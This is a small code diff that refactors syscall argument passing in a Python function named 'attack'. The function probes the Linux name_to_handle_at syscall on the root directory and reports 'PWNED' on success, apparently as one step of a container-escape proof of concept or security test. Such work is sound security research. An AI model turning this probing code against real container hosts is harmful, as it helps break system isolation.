@@ -17,7 +17,8 @@ def attack(target):
     path = ctypes.create_string_buffer(b"/")
     handle = ctypes.create_string_buffer(struct.pack("I", 128) + bytes(140))
     mount = ctypes.c_int()
-    result = libc.syscall(*map(ctypes.c_long, (number, -100, ctypes.addressof(path), ctypes.addressof(handle), ctypes.addressof(mount), 0)))
+    arguments = (-100, ctypes.addressof(path), ctypes.addressof(handle), ctypes.addressof(mount), 0)
+    result = libc.syscall(ctypes.c_long(number), *map(ctypes.c_long, arguments))
     if result < 0:
         raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
     return f"PWNED: name_to_handle_at returned {result}"
